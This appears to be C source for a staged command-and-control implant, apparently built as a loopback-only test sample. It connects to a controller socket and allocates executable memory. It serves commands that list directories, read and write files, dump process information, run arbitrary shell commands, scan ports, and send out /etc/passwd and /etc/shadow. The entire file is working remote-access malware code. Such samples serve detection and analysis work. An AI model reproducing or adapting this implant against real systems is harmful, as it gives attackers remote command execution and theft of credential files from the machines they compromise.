// A payload in stages, as attack frameworks have: connects, reads code's length and code into memory that it may execute,
// then serves short commands over one socket (list, read, write, processes, shell, connect). Loopback only.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>
static int s;
static void list(const char *d) { DIR *p = opendir(d); struct dirent *e; struct stat st; char b[1200]; if (!p) return;
  while ((e = readdir(p))) { snprintf(b, sizeof b, "%s/%s", d, e->d_name); stat(b, &st); dprintf(s, "%s %ld\n", e->d_name, (long)st.st_size); } closedir(p); }
static void get(const char *f) { char b[4096]; int n, d = open(f, O_RDONLY); if (d < 0) return; while ((n = read(d, b, sizeof b)) > 0) send(s, b, n, 0); close(d); }
static void put(const char *f) { int k, d = open(f, O_CREAT | O_WRONLY, 0755); for (k = 0; k < 20; k++) if (write(d, "0123456789abcdef", 16) < 0) break; fchmod(d, 0755); close(d); }
static void processes(void) { DIR *p = opendir("/proc"); struct dirent *e; char b[300]; while (p && (e = readdir(p))) if (e->d_name[0] < 58) {
  snprintf(b, sizeof b, "/proc/%s/cmdline", e->d_name); get(b); snprintf(b, sizeof b, "/proc/%s/status", e->d_name); get(b); } closedir(p); }
static void command(const char *c) { int i[2], o[2], n; char b[1024]; if (pipe(i) || pipe(o)) return; pid_t k = fork();
  if (!k) { dup2(i[0], 0); dup2(o[1], 1); dup2(o[1], 2); close(i[1]); close(o[0]); execl("/bin/sh", "sh", (char *)0); _exit(1); }
  close(i[0]); close(o[1]); n = write(i[1], c, strlen(c)); n = write(i[1], "\nexit\n", 6); struct pollfd f = {o[0], POLLIN, 0};
  while (poll(&f, 1, 3000) > 0 && (n = read(o[0], b, sizeof b)) > 0) send(s, b, n, 0);
  close(i[1]); close(o[0]); waitpid(k, 0, 0); }
static void scan(void) { int p; for (p = 20; p < 140; p++) { int k = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {AF_INET, htons(p), {htonl(0x7f000001)}, {0}};
  if (!connect(k, (void *)&a, sizeof a)) dprintf(s, "%d\n", p); close(k); } }
int main(int c, char **v) {
  struct sockaddr_in a = {AF_INET, htons(c > 1 ? atoi(v[1]) : 4444), {htonl(0x7f000001)}, {0}};
  int k, n, way = c > 2 ? atoi(v[2]) : 0;
  if (way & 1) { if (fork()) return 0; setsid(); chdir("/"); }
  s = socket(AF_INET, SOCK_STREAM, 0); for (k = 0; k < 5 && connect(s, (void *)&a, sizeof a); k++) sleep(1);
  int size = 8192; char *m = mmap(0, size, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (recv(s, m, 4, MSG_WAITALL) <= 0) return 1;
  if (way & 2) { for (k = 3; k < 64; k++) if (k != s) close(k); dup2(s, 0); dup2(s, 1); }
  char line[512]; struct pollfd f = {s, POLLIN, 0};
  for (;;) { n = poll(&f, 1, 400); if (!n) { gettimeofday((void *)m, 0); continue; }
    for (n = 0; n < 510 && recv(s, line + n, 1, 0) == 1 && line[n] != '\n'; n++) {} line[n] = 0; if (!n) break;
    switch (line[0]) { case 'l': list(line + 1); break; case 'g': get(line + 1); break; case 'p': put(line + 1); break; case 't': processes(); break;
      case 'c': command(line + 1); break; case 's': scan(); break; case 'u': { struct utsname u; uname(&u); dprintf(s, "%s %d %d %d\n", u.release, getuid(), getpid(), getppid()); } break;
      case 'm': list("/root"); list("/home"); get("/etc/passwd"); get("/etc/shadow"); break; case 'q': return 0; } }
  return 0; }
